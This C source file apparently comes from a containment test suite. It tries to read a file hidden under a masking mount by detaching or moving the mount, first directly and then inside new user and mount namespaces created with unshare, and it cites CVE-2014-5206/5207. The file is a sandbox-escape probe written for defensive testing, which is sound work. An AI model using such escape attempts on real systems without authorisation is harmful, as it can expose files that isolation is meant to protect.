/*
 * Idea: a mask is a mount on top of what it hides. Unmount it, or move it away.
 * Incident: the reason why mounts that came with a more privileged namespace are locked together
 * (mount_namespaces(7)); CVE-2014-5206 and CVE-2014-5207 were holes in that lock.
 * Success: what was hidden can be read.
 * Usage: unmount-mask MASK HIDDEN
 */
#include "attempt.h"
#include <sched.h>
#include <sys/mount.h>

static void uncover(const char *who, const char *mask, const char *hidden) {
  char line[256];
  if (umount2(mask, MNT_DETACH) < 0) stopped("umount %s %s", mask, who);
  if (mount(mask, "/tmp", NULL, MS_MOVE, NULL) < 0) stopped("move %s %s", mask, who);
  if (read_line_at(AT_FDCWD, hidden, line, sizeof line) == 0) escaped("read \"%s\" from under %s", line, mask);
  stopped("read %s", hidden);
}

int main(int argc, char **argv) {
  const char *mask = argument(argc, argv, 1, "the mount that hides");
  const char *hidden = argument(argc, argv, 2, "the file that it hides");
  uncover("as we are", mask, hidden);
  if (unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0) uncover("in namespaces of our own", mask, hidden);
  else stopped("unshare");
  contained();
}
